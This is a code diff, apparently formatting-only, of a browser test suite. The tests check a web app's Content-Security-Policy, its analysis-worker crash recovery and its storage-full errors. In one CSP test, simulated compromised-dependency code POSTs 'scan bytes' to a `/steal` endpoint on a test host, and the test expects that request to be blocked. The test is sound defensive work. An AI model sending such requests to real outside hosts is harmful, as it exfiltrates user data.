@@ -84,7 +84,13 @@ async function dismissError(page: Page): Promise<void> {
 
 function analysisWorker(page: Page) {
   const w = page.workers().find((x) => x.url().includes('analysis.worker'));
-  if (!w) throw new Error(`no analysis worker among ${page.workers().map((x) => x.url()).join(', ')}`);
+  if (!w)
+    throw new Error(
+      `no analysis worker among ${page
+        .workers()
+        .map((x) => x.url())
+        .join(', ')}`,
+    );
   return w;
 }
 
@@ -93,7 +99,10 @@ function analysisWorker(page: Page) {
  * rewritten to a 1024 x 1024 x 512 float32 volume, or nothing), then `count` references to one
  * zero blob of `fillerBytes`. Blob parts are references, so a 2 GB file costs the test no memory.
  */
-async function dropBuiltFile(page: Page, spec: { name: string; head: 'first-volume' | 'huge-header' | 'none'; fillerBytes: number; count: number }): Promise<void> {
+async function dropBuiltFile(
+  page: Page,
+  spec: { name: string; head: 'first-volume' | 'huge-header' | 'none'; fillerBytes: number; count: number },
+): Promise<void> {
   await page.getByTestId('drop-zone').evaluate(async (zone, s) => {
     const parts: BlobPart[] = [];
     if (s.head !== 'none') {
@@ -126,7 +135,16 @@ async function pageMemory(cdp: CDPSession): Promise<number> {
 describe('Content-Security-Policy', () => {
   it('the built page and every response carry the policy of public/_headers', async () => {
     const policy = siteHeaders(join(ROOT, 'public', '_headers'))['Content-Security-Policy']!;
-    for (const d of ["default-src 'self'", "script-src 'self' 'wasm-unsafe-eval'", "worker-src 'self' blob:", "connect-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'"]) {
+    for (const d of [
+      "default-src 'self'",
+      "script-src 'self' 'wasm-unsafe-eval'",
+      "worker-src 'self' blob:",
+      "connect-src 'self'",
+      "object-src 'none'",
+      "base-uri 'none'",
+      "form-action 'none'",
+      "frame-ancestors 'none'",
+    ]) {
       expect(policy).toContain(d);
     }
     expect(policy.replace("'wasm-unsafe-eval'", ''), 'no unsafe-inline, no unsafe-eval').not.toMatch(/unsafe/);
@@ -154,7 +172,10 @@ describe('Content-Security-Policy', () => {
     }, target);
     // ...and what a compromised dependency, already running in the page, would do.
     const outcomes = await page.evaluate(async (t) => {
-      const fetched = await fetch(`${t}/steal`, { method: 'POST', body: 'scan bytes', mode: 'no-cors' }).then(() => 'sent', () => 'blocked');
+      const fetched = await fetch(`${t}/steal`, { method: 'POST', body: 'scan bytes', mode: 'no-cors' }).then(
+        () => 'sent',
+        () => 'blocked',
+      );
       const img = await new Promise<string>((resolve) => {
         const i = new Image();
         i.onload = () => resolve('loaded');
@@ -171,7 +192,11 @@ describe('Content-Security-Policy', () => {
     }, target);
     // The analysis worker holds the scan bytes: its policy (the response header) blocks the same.
     const fromWorker = await analysisWorker(page).evaluate(
-      (t) => fetch(`${t}/from-worker`, { method: 'POST', body: 'scan bytes', mode: 'no-cors' }).then(() => 'sent', () => 'blocked'),
+      (t) =>
+        fetch(`${t}/from-worker`, { method: 'POST', body: 'scan bytes', mode: 'no-cors' }).then(
+          () => 'sent',
+          () => 'blocked',
+        ),
       target,
     );
     await page.waitForTimeout(1500); // anything that slipped through would have arrived by now
@@ -287,7 +312,9 @@ describe('faults', () => {
     // ...by the bundled model, as before the crash (not the untrained stand-in of a worker that lost its site).
     expect(await page.getByText('trained on synthetic data').count()).toBeGreaterThan(0);
     expect(await page.getByText('random weights').count()).toBe(0);
-    console.log(`[figure] worker killed -> message on screen ${shown} ms; next file analysed by the new worker in ${Date.now() - t1} ms (model reload included)`);
+    console.log(
+      `[figure] worker killed -> message on screen ${shown} ms; next file analysed by the new worker in ${Date.now() - t1} ms (model reload included)`,
+    );
     expect(await page.getByTestId('error').count()).toBe(0);
     expectNoCspViolations(page);
     await context.close();
@@ -305,7 +332,9 @@ describe('faults', () => {
       };
     });
     await drop('keras224_tiny.h5');
-    expect(await errorText(page)).toMatch(/^The model "keras224_tiny\.h5" works in this tab but could not be kept for later: the browser's storage is full;[^.]*\.×?$/);
+    expect(await errorText(page)).toMatch(
+      /^The model "keras224_tiny\.h5" works in this tab but could not be kept for later: the browser's storage is full;[^.]*\.×?$/,
+    );
     await dismissError(page);
     await analysisWorker(page).evaluate(() => {
       IDBDatabase.prototype.transaction = function () {
